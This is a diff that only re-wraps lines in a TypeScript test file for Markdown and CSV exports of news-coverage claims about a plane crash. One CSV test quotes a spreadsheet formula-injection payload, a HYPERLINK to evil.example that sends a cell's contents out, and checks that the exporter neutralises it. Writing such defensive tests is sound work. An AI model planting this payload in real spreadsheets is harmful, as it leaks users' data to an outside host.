@@ -15,9 +15,18 @@ async function coverage(edit?: (pack: ReturnType<typeof eventPack>) => void) {
 describe('eventMarkdown', () => {
   it('writes a table with one row per claim, row by row of the grid, outlets in first-report order', async () => {
     const lines = eventMarkdown(await coverage()).split('\n');
-    expect(lines.slice(0, 4)).toEqual(['# The crash', '', '| Question | Outlet | Voice | Speaker | Date | Sentence | Article |', '| --- | --- | --- | --- | --- | --- | --- |']);
-    expect(lines[4]).toBe('| What brought it down? | Another Daily | attributed | Ivan Spokesman | 2024-01-24 | A spokesman said 60 prisoners of war were aboard \\| and the talks went on. | Spokesman on the crash |');
-    expect(lines[5]).toBe('| What brought it down? | Wire Agency | attributed | Russia | 2024-01-24 | Russia said the plane was shot down. | [Plane down](https://wire.example/a1) |');
+    expect(lines.slice(0, 4)).toEqual([
+      '# The crash',
+      '',
+      '| Question | Outlet | Voice | Speaker | Date | Sentence | Article |',
+      '| --- | --- | --- | --- | --- | --- | --- |',
+    ]);
+    expect(lines[4]).toBe(
+      '| What brought it down? | Another Daily | attributed | Ivan Spokesman | 2024-01-24 | A spokesman said 60 prisoners of war were aboard \\| and the talks went on. | Spokesman on the crash |',
+    );
+    expect(lines[5]).toBe(
+      '| What brought it down? | Wire Agency | attributed | Russia | 2024-01-24 | Russia said the plane was shot down. | [Plane down](https://wire.example/a1) |',
+    );
     expect(lines.filter((l) => l.startsWith('| ')).length).toBe(2 + 5);
   });
 
@@ -35,7 +44,12 @@ describe('eventMarkdown', () => {
     const daily = md.split('\n').find((l) => l.includes('| Another Daily |'))!;
     expect(daily.endsWith('| Spokesman on the crash |')).toBe(true);
     expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
-    expect(md.split('\n').filter((l) => l.startsWith('| ')).every((l) => l.split(/(?<!\\)\|/).length === 9)).toBe(true);
+    expect(
+      md
+        .split('\n')
+        .filter((l) => l.startsWith('| '))
+        .every((l) => l.split(/(?<!\\)\|/).length === 9),
+    ).toBe(true);
   });
 });
 
@@ -45,7 +59,9 @@ describe('eventCsv', () => {
     expect(csv.startsWith('\uFEFFevent,question,outlet,voice,speaker,date,sentence,article,url\r\n')).toBe(true);
     const rows = csv.slice(1).trimEnd().split('\r\n');
     expect(rows).toHaveLength(1 + 5);
-    expect(rows[2]).toBe('The crash,What brought it down?,Wire Agency,attributed,Russia,2024-01-24,Russia said the plane was shot down.,Plane down,https://wire.example/a1');
+    expect(rows[2]).toBe(
+      'The crash,What brought it down?,Wire Agency,attributed,Russia,2024-01-24,Russia said the plane was shot down.,Plane down,https://wire.example/a1',
+    );
   });
 
   it('guards cells that a spreadsheet would run as formulas, and quotes what needs quoting', async () => {
@@ -56,6 +72,8 @@ describe('eventCsv', () => {
       }),
     );
     const row = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
-    expect(row).toBe(`The crash,What brought it down?,Wire Agency,attributed,"'@Russia, ""officially""",2024-01-24,"'=HYPERLINK(""http://evil.example/?""&A1, ""x"")",Plane down,https://wire.example/a1`);
+    expect(row).toBe(
+      `The crash,What brought it down?,Wire Agency,attributed,"'@Russia, ""officially""",2024-01-24,"'=HYPERLINK(""http://evil.example/?""&A1, ""x"")",Plane down,https://wire.example/a1`,
+    );
   });
 });
